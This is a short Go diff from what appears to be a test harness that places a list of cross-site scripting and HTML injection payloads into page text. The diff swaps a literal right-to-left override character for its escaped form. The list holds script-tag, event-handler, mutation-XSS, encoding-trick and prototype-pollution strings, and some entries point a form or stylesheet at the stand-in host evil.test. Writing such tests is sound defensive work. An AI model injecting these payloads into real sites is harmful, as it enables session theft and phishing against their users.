@@ -17,7 +17,7 @@ var vectors = []string{
 	`]]><script>JS!</script>`, `&lt;img src=x onerror=JS!&gt;&#60;script&#62;JS!&#60;/script&#62;`, "${JS!}`;JS!;`", `\";JS!//`, `";JS!;"`, `\u003cimg src=x onerror=JS!\u003e`,
 	`data:text/html,<script>JS!</script>`, `//evil.test/%2e%2e/?<base href=//evil.test/>`, `<a href="javascript&colon;JS!">l</a>`, "\t<\x00script>JS!</script>", `<!--[if true]><script>JS!</script><![endif]-->`,
 	`+ADw-script+AD4-JS!+ADw-/script+AD4-`, `<iframe srcdoc="<script>JS!</script>">`, `</h1></article></main><form action=https://evil.test><input name=q autofocus>`, `<style>@import url(https://evil.test/a.css);*{display:none}</style>`,
-	`__proto__`, `<svg><script href=data:,JS! />`, `‮<script>JS!</script>`, `%3Cscript%3EJS!%3C/script%3E`, `＜script＞JS!＜/script＞`, `<math><mtext></form><form><mglyph><style></math><img src onerror=JS!>`,
+	`__proto__`, `<svg><script href=data:,JS! />`, "\u202e<script>JS!</script>", `%3Cscript%3EJS!%3C/script%3E`, `＜script＞JS!＜/script＞`, `<math><mtext></form><form><mglyph><style></math><img src onerror=JS!>`,
 }
 
 // surfaces puts one vector wherever a page has a text.
